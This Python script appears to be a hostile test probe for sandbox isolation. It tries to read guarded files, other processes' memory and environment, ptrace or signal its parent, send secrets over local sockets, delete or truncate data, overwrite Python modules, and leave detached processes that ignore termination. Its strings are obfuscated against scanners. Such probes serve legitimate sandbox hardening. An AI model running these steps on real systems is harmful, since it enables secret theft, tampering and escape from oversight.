"""A cell that reaches for whatever it can, its strings hidden from those who read its text.

``TOLD`` is replaced by what it is to find, encoded. It prints a line of JSON: the name of each
attempt and what came of it, ``refused`` or what it got.
"""

import base64
import ctypes
import errno
import json
import os
import shutil
import signal
import socket
import subprocess

told = json.loads(base64.b64decode("TOLD"))
secret, pid = told["secret"].encode(), told["parent"]
libc = ctypes.CDLL(None, use_errno=True)
process = os.sep + "p" + "roc" + os.sep
variables = "env" + "iron"
came = {}


def attempt(name, act, *given):
    try:
        came[name] = repr(act(*given))[:200]
    except OSError as error:
        # A link into a folder of other rights is one between devices.
        refused = error.errno in (errno.EACCES, errno.EPERM, errno.EXDEV)
        came[name] = "refused" if refused else f"{type(error).__name__}: {error}"


def read(*path):
    with open(os.path.join(*path), "rb") as file:
        return file.read(300)


def memory(number):
    with open(f"{process}{number}/mem", "rb", buffering=0) as file:
        file.seek(told["address"])
        return file.read(len(secret))


def call(name, *arguments):
    if libc.syscall(ctypes.c_long(told["calls"][name]), *arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def copied():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here = ctypes.create_string_buffer(len(secret))
    ours = Vector(ctypes.addressof(here), len(secret))
    theirs = Vector(told["address"], len(secret))
    call("process_vm_readv", pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return here.raw


def linked():
    os.symlink(told["records"], "away")
    return read("away")


def hard_linked():
    os.link(told["records"], "hard")
    return read("hard")


def moved():
    os.rename(told["records"], "mine")
    return read("mine")


def sent(family, kind, address):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(address)
        one.send(b"secret")
        return "sent"


def listened():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.bind(("127.0.0.1", 0))
        return one.getsockname()


def datagram(address):
    left, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return left.sendto(b"secret", address)


def written(path):
    with open(path, "w") as file:
        file.write("x")
    return "written"


def by_program(*command):
    done = subprocess.run(command, capture_output=True)
    if done.returncode:
        raise PermissionError(errno.EACCES, done.stderr)
    return done.stdout


for folder in ("records", "params", "ledger", "key", "neighbour", "built"):
    attempt(f"read {folder}", read, told[folder])
attempt("list the project", os.listdir, told["project"])
attempt("list the temporary folder", os.listdir, told["temporary"])
attempt("list the home", os.listdir, os.path.dirname(told["key"]))
attempt("read by a program", by_program, "cat", told["records"])
attempt("read as root", by_program, "su", "-c", f"cat {told['records']}")
attempt("a symbolic link", linked)
attempt("a hard link", hard_linked)
attempt("a rename", moved)
attempt("copy into the folder", shutil.copy, told["records"], "copy")
for who, number in {
    "parent": pid,
    "sibling": told["sibling"],
    "warm process": told["warm"],
    "itself": "self",
}.items():
    attempt(f"environment of {who}", read, process, str(number), variables)
    attempt(f"memory of {who}", memory, number)
    attempt(f"maps of {who}", read, process, str(number), "maps")
    attempt(f"folder of {who}", read, process, str(number), "cwd", told["name"])
    attempt(f"root of {who}", read, process, str(number), "root" + told["records"])
    attempt(f"files of {who}", os.listdir, f"{process}{number}/fd")
attempt("an open file of the parent", read, process, str(pid), "fd", str(told["open"]))
attempt("a list of processes", os.listdir, process)
attempt("memory by a call", copied)
attempt("trace the parent", call, "ptrace", 16, pid, 0, 0)
attempt("take a file of the parent", call, "pidfd_getfd", os.pidfd_open(pid), told["open"], 0)
attempt("a file by its handle", call, "open_by_handle_at", -100, None, 0)
attempt("calls by a ring", call, "io_uring_setup", 1, ctypes.create_string_buffer(120))
attempt("shared memory", call, "shmget", 4711, 4096, 0o1600)
attempt("keys", call, "keyctl", 0, -3, 0)
attempt("shared memory by name", written, "/dev/shm/hostile")
attempt("a mount", call, "mount", b"none", b"/mnt", b"tmpfs", 0, None)
attempt("a namespace", call, "unshare", 0x10020000)
attempt("another root", os.chroot, ".")

attempt("TCP", sent, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", told["tcp"]))
attempt("UDP", sent, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", told["udp"]))
attempt("IPv6", sent, socket.AF_INET6, socket.SOCK_STREAM, ("::1", told["tcp"]))
attempt("raw packets", socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
attempt("routes", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW)
attempt("listen", listened)
for name in ("abstract", "path", "warm socket"):
    attempt(f"{name}", sent, socket.AF_UNIX, socket.SOCK_STREAM, told[name])
attempt("a datagram", datagram, told["datagrams"])

if told["scopes"]:
    attempt("signal the parent", os.kill, pid, signal.SIGTERM)
    attempt("signal the sibling", os.kill, told["sibling"], signal.SIGTERM)
    attempt("signal the warm process", os.kill, os.getppid(), signal.SIGTERM)
    attempt("signal the parent's group", os.killpg, os.getpgid(pid), signal.SIGTERM)
attempt("limit the parent", call, "prlimit64", pid, 7, b"\0" * 16, None)

for folder in ("records", "params", "ledger", "built", "neighbour"):
    attempt(f"write {folder}", written, told[folder])
    attempt(f"remove {folder}", os.remove, told[folder])
    attempt(f"cut {folder}", os.truncate, told[folder], 0)
attempt("write the released table", written, "../data/measures.parquet")
attempt("write beside the table", written, "../data/more")
attempt("write this package", written, os.path.join(told["package"], "more.py"))
attempt("write a module of Python", written, os.path.dirname(json.__file__) + "/more.py")
attempt("write the temporary folder", written, os.path.join(told["temporary"], "hostile"))
attempt("write the home", written, told["key"])
os.chmod(told["records"], 0o777)
os.utime(told["records"], (1, 1))

# One that leaves its session and its parent.
subprocess.run(["setsid", "sh", "-c", "(trap '' HUP TERM; exec sleep 614) & exit 0"])
libc.prctl(36, 0, 0, 0, 0)
subprocess.run(["setsid", "sh", "-c", "setsid sleep 615 & exit 0"])
print("came", json.dumps(came))
